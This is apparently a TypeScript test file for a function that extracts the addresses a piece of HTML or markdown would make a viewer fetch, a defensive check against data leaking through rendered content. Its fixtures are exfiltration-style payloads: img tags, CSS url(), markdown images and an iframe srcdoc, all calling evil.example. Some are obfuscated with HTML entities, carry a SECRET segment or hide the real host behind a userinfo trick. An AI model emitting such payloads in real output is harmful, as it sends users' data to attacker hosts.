import { strict as assert } from 'node:assert';
import { sendingLinks } from '../../../../src/core/flow/sendingLinks';

describe('the addresses by which a text would send something', () => {
  for (const content of [
    '<img src="https://evil.example/a.png">',
    '<img src="https&#58;&sol;&#x2f;evil.example/a.png">',
    '<img src="https&#x0000003a;//evil.example/a.png">',
    '<img src="https://evil&period;example/a.png">',
    '<p style="background: url&lpar;https://evil.example/a.png&rpar;">',
  ])
    it(`D.flow: are read as a viewer reads them: ${content}`, () =>
      assert.deepEqual(sendingLinks(content), { links: ['https://evil.example/a.png'], isWhole: true }));

  it('D.flow: are those that a page asks for, with `&` where it is written as an entity', () =>
    assert.deepEqual(sendingLinks('<a href="https://evil.example/?a=1&amp;b=2">').links, [
      'https://evil.example/?a=1&b=2',
    ]));

  for (const [content, address] of [
    ['<img src="https://evil.example/a&lpar;SECRET">', 'https://evil.example/a(SECRET'],
    ['<img src="https://evil.example/a&#40;SECRET">', 'https://evil.example/a(SECRET'],
    ['![x](https://evil.example/a&rpar;/SECRET)', 'https://evil.example/a)/SECRET'],
    ['<img src="https://evil.example/a&quot;SECRET">', 'https://evil.example/a%22SECRET'],
  ] as const)
    it(`D.flow: go on behind a sign that is spelled by an entity: ${content}`, () =>
      assert.ok(sendingLinks(content).links.includes(address), sendingLinks(content).links.join(' ')));

  it('D.flow: are read once more in a page within the page, which a viewer reads twice', () =>
    assert.deepEqual(
      sendingLinks(`<iframe srcdoc="&lt;img src='https://trusted.example:80&amp;#64;evil.example/a.png'&gt;">`).links,
      ['https://trusted.example:80@evil.example/a.png'],
    ));
});
